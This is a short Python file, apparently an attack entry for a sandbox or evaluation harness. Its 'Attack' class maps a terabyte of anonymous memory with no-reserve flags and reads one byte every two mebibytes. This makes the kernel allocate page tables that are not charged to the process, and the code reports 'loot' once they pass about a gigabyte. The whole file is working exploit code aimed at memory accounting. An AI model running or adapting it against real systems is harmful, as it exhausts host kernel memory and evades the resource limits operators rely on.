"""Reads one byte of every two mebibytes of empty memory: no page is its own, and the tables of pages are."""

import mmap
import time

from aim import MIB, loot

from run import ZEWDPCBaseRun

NO_RESERVE = 0x4000
SIZE = 1 << 40


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        # Read, not written: every page is the page of zeros.
        area = mmap.mmap(-1, SIZE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | NO_RESERVE, prot=mmap.PROT_READ)
        area.madvise(15)  # MADV_NOHUGEPAGE
        end = time.monotonic() + 7
        for at in range(0, SIZE, 2 * MIB):
            _ = area[at]
            if time.monotonic() > end:
                break
        size = at // (2 * MIB) * 4096
        time.sleep(1.2)
        print(size // MIB, flush=True)
        if size > 1000 * MIB:
            loot(f"{size // MIB} MiB of page tables")
